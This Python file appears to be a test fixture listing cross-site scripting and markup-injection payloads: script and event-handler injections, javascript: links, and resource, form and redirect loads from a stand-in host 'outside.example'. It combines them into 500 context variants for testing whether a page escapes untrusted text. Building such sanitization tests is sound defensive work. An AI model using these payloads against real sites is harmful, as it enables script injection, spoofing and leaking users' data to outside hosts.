"""Texts that are harmful, or get lost, if a page treats them as markup."""

PAYLOADS = {
    "script": "<script>window.harmed=1</script>",
    "image": "<img src=x onerror='window.harmed=1'>",
    "svg": "<svg onload=window.harmed=1><circle r=9></svg>",
    "style": "<style>*{background:url(http://outside.example/css)}</style>",
    "overlay": '<div style="position:fixed;inset:0">over everything</div>',
    "form": '<form action="http://outside.example/form"><input name=q></form>',
    "attribute": '" onmouseover="window.harmed=1" x=\'',
    "comment": "<!-- --><!doctype html></p></blockquote></div>",
    "entity": "&lt;b&gt; &amp; &#60;script&#62;",
    "markdown image": "![x](http://outside.example/image.png)",
    "markdown link": "[x](javascript:window.harmed=1) [y](data:text/html,hi)",
    "markdown reference": "![x][1]\n\n[1]: http://outside.example/reference.png",
    "markdown block": "# Heading\n\n- list\n\n    code\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown marks": "*a* **b** _c_ `d` ~~e~~ ~f~ \\* 1. --- ```g```",
    "autolink": "http://outside.example/auto www.outside.example <http://outside.example>",
    "latex": "$$\\href{javascript:window.harmed=1}{x}$$ \\(y\\) $z$",
    "mermaid": "```mermaid\ngraph TD; A-->B\n```",
    "bidi": "user\u202egnp.exe \u2067abc\u2069",
    "template": "{{ 7*7 }} ${7*7} {% x %}",
    "spaces": "  two  spaces\ttab\nline",
}

_CONTEXTS = (
    *("{}", "x {} y", '"{}', "'{}", '">{}', "'>{}", "</p>{}", "</bdi></a>{}", "<!--{}", "-->{}"),
    *("]]>{}", "`{}`", "[x]({})", "![x]({})", "\\{}", "&lt;{}", "\u202e{}", "\n\n{}\n\n"),
    *("</script>{}", "</textarea></style>{}"),
)
_ATTACKS = (
    "<script>window.harmed=1</script>",
    "<script src=//outside.example/a.js></script>",
    "<img src=//outside.example/i onerror=window.harmed=1>",
    "<svg><script>window.harmed=1</script></svg>",
    "<svg><a xlink:href=javascript:window.harmed=1><text>x</text></a></svg>",
    "<svg><use href=//outside.example/u.svg#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<object data=//outside.example/o></object>",
    "<embed src=//outside.example/e>",
    "<link rel=stylesheet href=//outside.example/l.css>",
    "<style>@import '//outside.example/s.css';*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//outside.example/b)'>x</div>",
    "<meta http-equiv=refresh content='0;url=//outside.example/m'>",
    "<base href=//outside.example/>",
    "<form action=//outside.example/f><button name=copy>x</button></form>",
    "<a href=javascript:window.harmed=1 id=source class=cite>x</a>",
    "<input name=attributes autofocus onfocus=window.harmed=1>",
    "<video src=//outside.example/v poster=//outside.example/p></video>",
    "<audio src=//outside.example/a autoplay></audio>",
    "<img srcset='//outside.example/1x 1x'>",
    "<details open ontoggle=window.harmed=1>x</details>",
    "javascript:window.harmed=1",
    "data:text/html,<script>window.harmed=1</script>",
    "https://outside.example/auto",
)
COMBINED_PAYLOADS = tuple(context.format(attack) for context in _CONTEXTS for attack in _ATTACKS)
"""Five hundred payloads: each attack in each context."""
